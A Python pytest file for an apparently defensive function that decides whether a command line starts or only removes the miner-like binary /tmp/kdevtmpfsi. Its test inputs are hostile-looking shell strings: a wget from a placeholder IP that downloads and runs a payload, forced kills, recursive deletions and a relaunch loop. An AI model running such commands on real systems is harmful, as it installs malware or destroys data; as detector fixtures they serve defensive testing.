"""Whom a text ends or removes, it does not start."""

from __future__ import annotations

import pytest

from davy.collect.details import spared_of_removals


@pytest.mark.parametrize(
    "text",
    [
        b"pkill -f /tmp/kdevtmpfsi",
        b"rm -rf /tmp/kdevtmpfsi /var/tmp/x",
        b"sh\0-c\0while :; do pkill -9 -f /tmp/kdevtmpfsi; rm -f /tmp/kdevtmpfsi; sleep 1; done",
        b"pkill\0-f\0/tmp/kdevtmpfsi",
        b"#!/bin/sh\n  chattr -i /tmp/kdevtmpfsi && /usr/bin/rm -f /tmp/kdevtmpfsi\n",
        b"if pgrep -f /tmp/kdevtmpfsi; then sudo killall -9 /tmp/kdevtmpfsi; fi",
    ],
)
def test_a_killer_names_nobody(text: bytes) -> None:
    assert b"/kdevtmpfsi" not in spared_of_removals(text)


@pytest.mark.parametrize(
    "text",
    [
        b"sh\0-c\0while :; do /tmp/kdevtmpfsi; sleep 1; done",
        b"rm -f /tmp/kdevtmpfsi; wget -O /tmp/kdevtmpfsi http://203.0.113.1/x && /tmp/kdevtmpfsi",
        b"pgrep -f kdevtmpfsi >/dev/null || /tmp/kdevtmpfsi &",
        b"/tmp/kdevtmpfsi rm",
        b"/tmp/rm\0/tmp/kdevtmpfsi",
    ],
)
def test_a_starter_is_still_heard_among_its_removals(text: bytes) -> None:
    assert b"/kdevtmpfsi" in spared_of_removals(text)
